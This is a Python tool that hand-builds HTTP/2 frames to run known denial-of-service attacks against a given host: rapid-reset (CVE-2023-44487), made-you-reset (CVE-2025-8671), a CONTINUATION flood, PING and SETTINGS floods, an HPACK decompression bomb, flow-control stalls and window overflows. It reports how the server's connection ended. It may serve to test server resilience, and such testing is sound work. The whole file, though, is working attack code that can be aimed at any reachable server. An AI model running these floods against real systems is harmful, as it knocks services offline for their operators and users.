#!/usr/bin/env python3
"""Known HTTP/2 attacks, one per mode, with frames built by hand (the `h2` package refuses to
misbehave); `hpack` encodes the header blocks.

    h2_attacks.py MODE HOST PORT PATH [--seconds S] [--streams N] [--tls]

Modes:
  stall          one request for PATH on the default 64 KiB windows, never granting more to the
                 stream; answers PINGs and sends its own, empty SETTINGS, PRIORITY frames and
                 1-byte connection WINDOW_UPDATEs: traffic, but nothing that lets data flow
  rapid-reset    HEADERS then RST_STREAM(CANCEL), new stream after new stream (CVE-2023-44487)
  made-you-reset HEADERS, then a WINDOW_UPDATE overflowing that stream: the server resets it
  continuation   HEADERS without END_HEADERS, then CONTINUATION frames without end
  ping-flood     PING after PING, never reading the answers
  settings-flood SETTINGS after SETTINGS, never reading the acknowledgements
  streams        N requests for PATH at once on windows of 0 bytes, so none can finish
  hpack-bomb     a 4000-byte header stored in the HPACK table, then referenced 2000 times in one
                 request (a few KiB on the wire, 8 MB of headers once decoded)
  table-size     asks for the largest HPACK table the server may use for its answers (2^32-1),
                 then makes N requests for PATH, each with a new header value
  window-overflow WINDOW_UPDATE of 2^31-1 on stream 0 (the window then exceeds 2^31-1)
  stream-window-overflow the same on an open stream

Prints one line of `key=value` pairs at the end: how the connection ended (`end=goaway:CODE`,
`end=eof`, `end=reset`, `end=open`), what was sent and received.
"""

import argparse
import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_INITIAL_WINDOW_SIZE = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Conn:
    """A socket and a frame reader that records what the server said."""

    def __init__(self, host, port, tls=False):
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
            if self.sock.selected_alpn_protocol() != "h2":
                sys.exit("the server did not offer h2")
        self.buf = b""
        self.end = None
        self.received = {}
        self.resets = {}
        self.statuses = {}
        self.data_bytes = 0
        self.pings = []
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 2**32 - 1

    def send(self, data):
        """Sends all of `data`; False once the server has closed."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.end = self.end or "reset"
            return False

    def try_send(self, data, timeout=1.0):
        """Sends what the socket takes within `timeout`, so a flood never blocks forever."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            return True
        except OSError:
            self.end = self.end or "reset"
            return False
        finally:
            self.sock.settimeout(None)

    def read(self, timeout, once=False):
        """Reads and parses for up to `timeout` seconds (or until closed; `once`: until
        something arrived)."""
        deadline = time.monotonic() + timeout
        while self.end is None:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            # TLS may hold decrypted bytes that select() cannot see.
            buffered = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not buffered:
                ready, _, _ = select.select([self.sock], [], [], left)
                if not ready:
                    return
            try:
                chunk = self.sock.recv(1 << 16)
            except ssl.SSLWantReadError:
                continue
            except OSError:
                self.end = "reset"
                return
            if not chunk:
                self.end = "eof"
                return
            self.buf += chunk
            self.parse()
            if once:
                return

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            self.received[kind] = self.received.get(kind, 0) + 1
            if kind == GOAWAY:
                code = int.from_bytes(payload[4:8], "big")
                self.end = self.end or f"goaway:{code}"
            elif kind == RST_STREAM:
                self.resets[stream] = int.from_bytes(payload[:4], "big")
            elif kind == HEADERS:
                try:
                    headers = dict(self.decoder.decode(payload, raw=True))
                    self.statuses[stream] = headers.get(b":status", b"").decode()
                except Exception as e:  # noqa: BLE001 - report, keep going
                    self.statuses[stream] = f"undecodable:{e}"
            elif kind == DATA:
                self.data_bytes += length
            elif kind == PING and not flags & ACK:
                self.pings.append(payload)
            elif kind == SETTINGS and not flags & ACK:
                # Never block here: a flooded server may not be reading.
                self.try_send(frame(SETTINGS, ACK, 0), timeout=0.2)

    def answer_pings(self):
        while self.pings:
            self.send(frame(PING, ACK, 0, self.pings.pop()))


SCHEME = ["http"]


def request(encoder, host, port, path, extra=()):
    return encoder.encode(
        [(":method", "GET"), (":scheme", SCHEME[0]), (":authority", f"{host}:{port}"), (":path", path)]
        + list(extra)
    )


def start(args, window=None, pairs=()):
    conn = Conn(args.host, args.port, args.tls)
    pairs = list(pairs)
    if window is not None:
        pairs.append((SETTINGS_INITIAL_WINDOW_SIZE, window))
    conn.send(PREFACE + settings(pairs))
    return conn


def stall(args):
    conn = start(args)
    encoder = hpack.Encoder()
    conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request(encoder, args.host, args.port, args.path)))
    began = time.monotonic()
    n = 0
    while conn.end is None and time.monotonic() - began < args.seconds:
        n += 1
        conn.answer_pings()
        noise = frame(PING, 0, 0, n.to_bytes(8, "big"))
        noise += settings()
        noise += frame(PRIORITY, 0, 1001 + 2 * (n % 100), struct.pack(">IB", 0, 15))
        noise += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
        conn.send(noise)
        conn.read(0.2)
    return conn, {"after": f"{time.monotonic() - began:.1f}", "data": conn.data_bytes, "noise": n}


def rapid_reset(args):
    """Streams opened and cancelled at once, on one connection after another for `seconds`
    (an attacker reconnects when cut off)."""
    began = time.monotonic()
    sent, connections, ends = 0, 0, {}
    while time.monotonic() - began < args.seconds:
        conn = start(args)
        connections += 1
        block = request(hpack.Encoder(), args.host, args.port, args.path)
        stream = 1
        while conn.end is None and time.monotonic() - began < args.seconds:
            batch = []
            for _ in range(100):
                batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                stream += 2
            if not conn.try_send(b"".join(batch)):
                break
            sent += 100
            conn.read(0)
            conn.answer_pings()
        conn.read(0.2)
        end = conn.end or "open"
        ends[end] = ends.get(end, 0) + 1
        conn.sock.close()
    elapsed = max(time.monotonic() - began, 0.001)
    summary = ",".join(f"{k}:{v}" for k, v in sorted(ends.items()))
    return conn, {"connections": connections, "sent": sent, "per_second": int(sent / elapsed), "ends": summary}


def made_you_reset(args):
    """Streams the server has to reset for the client (CVE-2025-8671): HEADERS for PATH (large,
    so the stream is still open), then a WINDOW_UPDATE that takes the stream's window past
    2^31-1, which is answered with RST_STREAM(FLOW_CONTROL_ERROR); again and again. (DATA on a
    half-closed stream or a WINDOW_UPDATE of 0 end the whole connection at once.)"""
    conn = start(args, window=2**31 - 1)
    encoder = hpack.Encoder()
    block = request(encoder, args.host, args.port, args.path)
    began = time.monotonic()
    stream, sent = 1, 0
    while conn.end is None and time.monotonic() - began < args.seconds:
        batch = []
        for _ in range(5):
            batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
            batch.append(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))
            stream += 2
        if not conn.try_send(b"".join(batch)):
            break
        sent += 5
        conn.read(0.01)
        conn.answer_pings()
    conn.read(2)
    return conn, {"sent": sent, "resets": len(conn.resets)}


def continuation(args):
    conn = start(args)
    # Acknowledge the server's SETTINGS now: no other frame may come inside a header block.
    conn.read(0.5, once=True)
    encoder = hpack.Encoder()
    conn.send(frame(HEADERS, END_STREAM, 1, request(encoder, args.host, args.port, args.path)))
    # Literal header fields without indexing, 16 KiB a frame.
    name = b"x-pad"
    value = b"a" * 16000
    fragment = b"\x00" + bytes([len(name)]) + name + b"\x7f" + encode_int(len(value) - 127) + value
    began = time.monotonic()
    sent = 0
    while conn.end is None and time.monotonic() - began < args.seconds:
        if not conn.try_send(frame(CONTINUATION, 0, 1, fragment)):
            break
        sent += 1
        # A moment to read the server's answer, so it is not lost to a reset.
        conn.read(0.05)
    conn.read(2)
    return conn, {"frames": sent, "bytes": sent * (9 + len(fragment))}


def encode_int(n):
    """The continuation bytes of an HPACK integer whose prefix is full."""
    out = bytearray()
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def flood(args, one):
    conn = start(args)
    began = time.monotonic()
    sent = 0
    conn.sock.setblocking(False)
    data = one * 1000
    pending = b""
    while time.monotonic() - began < args.seconds:
        if not pending:
            pending = data
            sent += 1000
        try:
            n = conn.sock.send(pending)
            pending = pending[n:]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            time.sleep(0.01)
        except OSError:
            conn.end = "reset"
            break
    conn.sock.setblocking(True)
    # The server wrote acknowledgements nobody read; now read them.
    conn.read(3)
    return conn, {"sent": sent, "acks": conn.received.get(PING if one[3] == PING else SETTINGS, 0)}


def many_streams(args):
    conn = start(args, window=0)
    encoder = hpack.Encoder()
    out = b""
    for i in range(args.streams):
        out += frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, request(encoder, args.host, args.port, args.path))
    conn.send(out)
    conn.read(args.seconds)
    refused = sum(1 for code in conn.resets.values() if code == 7)
    return conn, {"answered": len(conn.statuses), "refused": refused, "resets": len(conn.resets)}


def hpack_bomb(args):
    conn = start(args)
    # Literal with incremental indexing, new name: the 4000-byte value goes into the table
    # (index 62), then 2000 one-byte references to it.
    name, value = b"x-bomb", b"b" * 4000
    stored = b"\x40" + bytes([len(name)]) + name + b"\x7f" + encode_int(len(value) - 127) + value
    encoder = hpack.Encoder()
    block = request(encoder, args.host, args.port, args.path) + stored + bytes([0x80 | 62]) * 2000
    conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    conn.read(args.seconds)
    return conn, {"status": conn.statuses.get(1, "none"), "reset": conn.resets.get(1, "none"), "wire": len(block)}


def table_size(args):
    conn = start(args, pairs=[(SETTINGS_HEADER_TABLE_SIZE, 2**32 - 1)])
    encoder = hpack.Encoder()
    done = 0
    for i in range(args.streams):
        stream = 1 + 2 * i
        extra = [("x-n", f"{i:08d}" + "v" * 200)]
        block = request(encoder, args.host, args.port, args.path, extra)
        if not conn.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, block)):
            break
        # One at a time, within `max_streams`.
        deadline = time.monotonic() + 5
        while stream not in conn.statuses and stream not in conn.resets and conn.end is None:
            if time.monotonic() > deadline:
                break
            conn.read(0.1, once=True)
            conn.answer_pings()
        if conn.end:
            break
        done += 1
    ok = sum(1 for s in conn.statuses.values() if s == "200")
    return conn, {"sent": done, "ok": ok, "other": sorted(set(conn.statuses.values()) - {"200"})[:3]}


def window_overflow(args, on_stream):
    # On a stream, the window starts at its largest, so any increment overflows it (the
    # connection window keeps what the server sent meanwhile under 64 KiB).
    conn = start(args, window=2**31 - 1 if on_stream else None)
    stream = 0
    if on_stream:
        encoder = hpack.Encoder()
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request(encoder, args.host, args.port, args.path)))
        stream = 1
    conn.send(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))
    conn.read(args.seconds)
    return conn, {"reset": conn.resets.get(1, "none")}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("mode")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("path")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--streams", type=int, default=200)
    parser.add_argument("--tls", action="store_true", help="HTTPS, h2 by ALPN")
    args = parser.parse_args()
    if args.tls:
        SCHEME[0] = "https"
    modes = {
        "stall": lambda: stall(args),
        "rapid-reset": lambda: rapid_reset(args),
        "continuation": lambda: continuation(args),
        "made-you-reset": lambda: made_you_reset(args),
        "ping-flood": lambda: flood(args, frame(PING, 0, 0, b"12345678")),
        "settings-flood": lambda: flood(args, settings([(SETTINGS_INITIAL_WINDOW_SIZE, 65535)])),
        "streams": lambda: many_streams(args),
        "hpack-bomb": lambda: hpack_bomb(args),
        "table-size": lambda: table_size(args),
        "window-overflow": lambda: window_overflow(args, False),
        "stream-window-overflow": lambda: window_overflow(args, True),
    }
    if args.mode not in modes:
        sys.exit(f"unknown mode {args.mode}")
    conn, result = modes[args.mode]()
    result = {"end": conn.end or "open", **result}
    print(" ".join(f"{k}={v}" for k, v in result.items()), flush=True)


if __name__ == "__main__":
    main()
